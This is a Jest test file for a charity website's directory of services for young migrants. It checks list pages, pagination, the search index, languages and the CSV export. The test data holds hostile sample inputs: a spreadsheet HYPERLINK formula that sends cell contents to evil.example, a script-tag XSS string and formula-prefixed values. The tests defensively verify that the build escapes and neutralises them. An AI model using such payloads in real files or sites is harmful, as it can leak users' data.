/**
 * The directory of services in the built site, from the demo content plus hostile entries: the
 * list per language, a static page per area / group / language that lists the right services,
 * each service's own page (in the site search), the CSV download (escaping, formula injection)
 * and a service with a non-https website left out of the build and named.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Core } from '@strapi/strapi';
import { DIRECTORY_SERVICES } from '../../cms/src/seed/content/directory';
import { createPublished } from '../../cms/tests/helpers/content';
import { buildSeededSite, type SeededSite } from './support/seeded-site';
import { readSiteOutput, type SiteOutput } from './support/site-output';

jest.setTimeout(600_000);

const SERVICE = 'api::service.service';
const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open me")';
const HOSTILE_DESCRIPTION = '<script>alert("directory")</script>, "quoted", line\nbreak';
const HOSTILE_ORGANIZATION = '@SUM(1+1)';
const HOSTILE_PLACE = '-2+3 Hall';

const addDirectoryHostiles = async (strapi: Core.Strapi): Promise<void> => {
  const organization = await createPublished(strapi, 'api::organization.organization', {
    name: HOSTILE_ORGANIZATION,
    slug: 'hostile-organisation',
  });
  await createPublished(strapi, SERVICE, {
    name: HOSTILE_NAME,
    organization,
    locations: [{ name: HOSTILE_PLACE, city: 'Newtown' }],
    slug: 'hostile-formula-service',
    description: HOSTILE_DESCRIPTION,
    feesDescription: '+44 fee',
    serviceAreas: [{ nation: 'wales', localAuthority: 'Powys' }],
    languages: [{ code: 'cy' }],
    immigrationSituations: [{ situation: 'refugee' }],
  });
  const insecure = await createPublished(strapi, SERVICE, {
    name: 'Left out: plain http website',
    slug: 'left-out-http-service',
    description: 'Its website address is not https.',
    serviceAreas: [{ nation: 'scotland' }],
  });
  // Past the CMS's own check (as an old or restored entry could be): the build must still refuse it.
  await strapi.db.query(SERVICE as never).updateMany({
    where: { documentId: insecure },
    data: { url: 'http://insecure.example.org' },
  });
};

/** RFC 4180 parsing, enough to read back what the site wrote. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  return rows;
};

let built: SeededSite;
let site: SiteOutput;
let reportDir: string;
let leftOut: Array<{ type: string; title: string; locale: string; problem: string }>;

const serviceLinks = (urlPath: string): string[] =>
  site
    .mainLinks(urlPath)
    .filter((href) => /^\/(?:[a-z]{2}\/)?directory\/[a-z0-9-]+\/$/.test(href) && !href.endsWith('/area/'));
const slugsOnPage = (urlPath: string): string[] =>
  [...new Set(serviceLinks(urlPath).map((href) => href.split('/').at(-2)!))].filter(
    (slug) => !['area', 'language', 'for'].includes(slug),
  );
/** The URLs of a list's pages: `urlPath`, then `urlPath/page/2/`… as long as they were built. */
const pagesOf = (urlPath: string): string[] => {
  const pages = [urlPath];
  while (site.has(`${urlPath}page/${pages.length + 1}/`)) pages.push(`${urlPath}page/${pages.length + 1}/`);
  return pages;
};
/** Every service a list shows, over all its pages. */
const slugsOn = (urlPath: string): string[] => pagesOf(urlPath).flatMap(slugsOnPage);
/** The whole directory's services by their position (`data-position`), from its static pages. */
const slugsByPosition = (urlPath: string): Map<number, string> => {
  const found = new Map<number, string>();
  for (const page of pagesOf(urlPath)) {
    for (const match of site
      .html(page)
      .matchAll(/data-position="(\d+)"[\s\S]*?href="[^"]*\/directory\/([a-z0-9-]+)\/"/g)) {
      found.set(Number(match[1]), match[2]!);
    }
  }
  return found;
};

beforeAll(async () => {
  reportDir = mkdtempSync(path.join(os.tmpdir(), 'directory-left-out-'));
  const leftOutFile = path.join(reportDir, 'left-out.json');
  built = await buildSeededSite({
    siteUrl: 'https://charity-site.test',
    addContent: addDirectoryHostiles,
    leftOutFile,
  });
  site = readSiteOutput(built.dir);
  leftOut = JSON.parse(readFileSync(leftOutFile, 'utf8')) as typeof leftOut;
});
afterAll(() => {
  built?.remove();
  if (reportDir) rmSync(reportDir, { recursive: true, force: true });
});

describe('the directory pages', () => {
  it('lists every published English service on the directory pages, in the site navigation', () => {
    const slugs = slugsOn('/directory/');
    expect(slugs).toHaveLength(DIRECTORY_SERVICES.length + 1);
    expect(new Set(slugs).size).toBe(slugs.length);
    for (const service of DIRECTORY_SERVICES) expect(slugs).toContain(service.slug);
    expect(site.html('/')).toContain('href="/directory/"');
  });

  it('shows at most 24 services a page, with numbered page links, later pages out of the sitemap', () => {
    const pages = pagesOf('/directory/');
    expect(pages).toEqual(['/directory/', '/directory/page/2/']);
    expect(slugsOnPage('/directory/')).toHaveLength(24);
    expect(slugsOnPage('/directory/page/2/')).toHaveLength(DIRECTORY_SERVICES.length + 1 - 24);
    expect(site.mainText('/directory/')).toContain(`Services 1 to 24 of ${DIRECTORY_SERVICES.length + 1}`);
    expect(site.mainLinks('/directory/')).toContain('/directory/page/2/');
    expect(site.mainLinks('/directory/page/2/')).toContain('/directory/');
    expect(site.html('/directory/page/2/')).toMatch(/<meta name="robots" content="noindex/);
    const sitemap = readFileSync(path.join(site.dir, 'sitemap.xml'), 'utf8');
    expect(sitemap).toContain('<loc>https://charity-site.test/directory/</loc>');
    expect(sitemap).not.toContain('/directory/page/2/');
    const lists = [...site.paths]
      .filter((rel) => /^(?:[a-z]{2}\/)?directory\/(?:.+\/)?index\.html$/.test(rel))
      .map((rel) => `/${rel.replace(/index\.html$/, '')}`)
      .filter((urlPath) => site.html(urlPath).includes('id="directory-list"'));
    expect(lists.length).toBeGreaterThan(20);
    for (const list of lists) expect([list, slugsOnPage(list).length <= 24]).toEqual([list, true]);
  });

  it('gives the filter script an index that agrees with every area, group and language page', () => {
    const index = JSON.parse(readFileSync(path.join(site.dir, 'directory/filter-index.json'), 'utf8')) as {
      pageSize: number;
      pages: string[];
      values: Record<'area' | 'who' | 'language', string[]>;
      rows: number[][][];
    };
    expect(index.pages).toEqual(pagesOf('/directory/'));
    const bySlug = slugsByPosition('/directory/');
    expect(bySlug.size).toBe(DIRECTORY_SERVICES.length + 1);
    expect(index.rows).toHaveLength(bySlug.size);
    const listPath = {
      area: (value: string) => `/directory/area/${value}/`,
      who: (value: string) => `/directory/for/${value.replace(/_/g, '-')}/`,
      language: (value: string) => `/directory/language/${value}/`,
    };
    const facets = ['area', 'who', 'language'] as const;
    for (const [f, facet] of facets.entries()) {
      expect(index.values[facet].length).toBeGreaterThan(1);
      for (const [place, value] of index.values[facet].entries()) {
        const inIndex = index.rows.flatMap((row, position) =>
          row[f]!.includes(place) ? [bySlug.get(position)] : [],
        );
        expect([value, inIndex.sort()]).toEqual([value, slugsOn(listPath[facet](value)).sort()]);
      }
    }
    // A few kilobytes, whatever the directory's text: numbers, no names.
    expect(JSON.stringify(index)).not.toContain('Safe Harbour');
  });

  it('has a page per nation, region and local authority listing the services that work there', () => {
    for (const nation of ['england', 'scotland', 'wales', 'northern-ireland']) {
      expect(site.has(`/directory/area/${nation}/`)).toBe(true);
    }
    const london = slugsOn('/directory/area/england/london/');
    expect(london).toEqual(
      expect.arrayContaining([
        'young-peoples-immigration-advice-clinic', // London-wide
        'camden-youth-drop-in', // a London borough
        'independent-child-trafficking-guardians-england', // all of England
      ]),
    );
    expect(london).not.toContain('manchester-youth-sanctuary-club');
    expect(london).not.toContain('glasgow-young-asylum-seekers-advice');

    const camden = slugsOn('/directory/area/england/camden/');
    expect(camden).toEqual(
      expect.arrayContaining([
        'camden-youth-drop-in',
        'young-peoples-immigration-advice-clinic',
        'uk-childrens-immigration-advice-line',
      ]),
    );
    expect(camden).not.toContain('hackney-girls-wellbeing-group');

    const scotland = slugsOn('/directory/area/scotland/');
    expect(scotland).toEqual(
      expect.arrayContaining([
        'glasgow-young-asylum-seekers-advice',
        'scottish-guardianship-for-separated-children',
      ]),
    );
    expect(scotland).not.toContain('uk-childrens-immigration-advice-line');
    expect(slugsOn('/directory/area/northern-ireland/belfast/')).toEqual(
      expect.arrayContaining(['belfast-youth-forum', 'belfast-young-migrants-advice-line']),
    );
  });

  it('has a page per group and per language', () => {
    const careLeavers = slugsOn('/directory/for/care-leaver/');
    expect(careLeavers).toContain('leeds-mentoring-for-young-refugees');
    expect(careLeavers).toContain('birmingham-welcome-and-english'); // any immigration situation
    expect(careLeavers).not.toContain('kent-arrivals-welcome-team');
    const tigrinya = slugsOn('/directory/language/ti/');
    expect(tigrinya).toContain('hackney-girls-wellbeing-group');
    expect(tigrinya).not.toContain('wrexham-welcome-mentors');
    expect(site.mainText('/directory/language/ti/')).toContain('Tigrinya');
  });

  it('works without JavaScript: the filter form is hidden until its script runs, links lead to every list', () => {
    const html = site.html('/directory/');
    expect(html).toMatch(/<form id="directory-filter"[^>]*\shidden/);
    expect(html).toMatch(/<label for="directory-area">/);
    expect(html).toMatch(/role="status"/);
    for (const href of ['/directory/area/wales/', '/directory/for/refugee/', '/directory/language/ar/']) {
      expect(site.mainLinks('/directory/')).toContain(href);
    }
  });

  it('has a page per service in the site search, and leaves the lists out of it', () => {
    const page = site.html('/directory/trauma-therapy-for-young-refugees/');
    expect(page).toContain('data-pagefind-body');
    expect(site.mainText('/directory/trauma-therapy-for-young-refugees/')).toContain(
      'Safe Harbour Therapy Service',
    );
    expect(page).toContain('href="tel:02079460125"');
    expect(site.html('/directory/')).toMatch(/id="directory-list"[^>]*data-pagefind-ignore/);
  });

  it('is in other languages, right to left in Arabic and Farsi', () => {
    expect(site.html('/ar/directory/')).toMatch(/<html lang="ar" dir="rtl"/);
    expect(site.html('/fa/directory/')).toMatch(/<html lang="fa" dir="rtl"/);
    expect(slugsOn('/ar/directory/')).toContain('young-peoples-immigration-advice-clinic');
    expect(site.mainText('/ar/directory/young-peoples-immigration-advice-clinic/')).toContain('عيادة');
    expect(site.has('/sq/directory/uk-childrens-immigration-advice-line/')).toBe(true);
  });
});

describe('hostile entries', () => {
  it('escapes a service name and description in HTML', () => {
    const html = site.html('/directory/hostile-formula-service/');
    expect(html).not.toContain('<script>alert("directory")');
    expect(html).toContain('&lt;script&gt;');
  });

  it('leaves out a service whose website is not https, and names it', () => {
    expect(site.has('/directory/left-out-http-service/')).toBe(false);
    expect(leftOut).toContainEqual(
      expect.objectContaining({ title: 'Left out: plain http website', locale: 'en' }),
    );
  });
});

describe('the CSV download', () => {
  const csvOf = (urlPath: string) => readFileSync(path.join(site.dir, urlPath), 'utf8');

  it('is a spreadsheet of every service with a header row, UTF-8 with a byte-order mark and CRLF', () => {
    const text = csvOf('directory/services.csv');
    expect(text.startsWith('\ufeff"Service","Organisation"')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows).toHaveLength(DIRECTORY_SERVICES.length + 2);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([rows[0]!.length]));
    const clinic = rows.find((row) => row[0] === "Young people's immigration advice clinic");
    expect(clinic?.[1]).toBe('Thames Young Migrants Law Centre');
    expect(clinic?.at(-1)).toBe(
      'https://charity-site.test/directory/young-peoples-immigration-advice-clinic/',
    );
    expect(site.html('/directory/')).toContain('href="/directory/services.csv"');
  });

  it('cannot run a formula and keeps quotes, commas and line breaks inside their cell', () => {
    const rows = parseCsv(csvOf('directory/services.csv').slice(1));
    const hostile = rows.find((row) => row[0]?.includes('HYPERLINK'));
    expect(hostile?.[0]).toBe(`'${HOSTILE_NAME}`);
    expect(hostile?.[2]).toBe(HOSTILE_DESCRIPTION);
    expect(hostile?.[1]).toBe(`'${HOSTILE_ORGANIZATION}`);
    expect(hostile?.[10]).toBe(`'${HOSTILE_PLACE}, Newtown`);
    expect(hostile?.[7]).toBe('Free. +44 fee'); // not at the start of a cell: harmless
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is in each language the directory is in', () => {
    const text = csvOf('ar/directory/services.csv');
    expect(text.startsWith('\ufeff"الخدمة"')).toBe(true);
  });
});
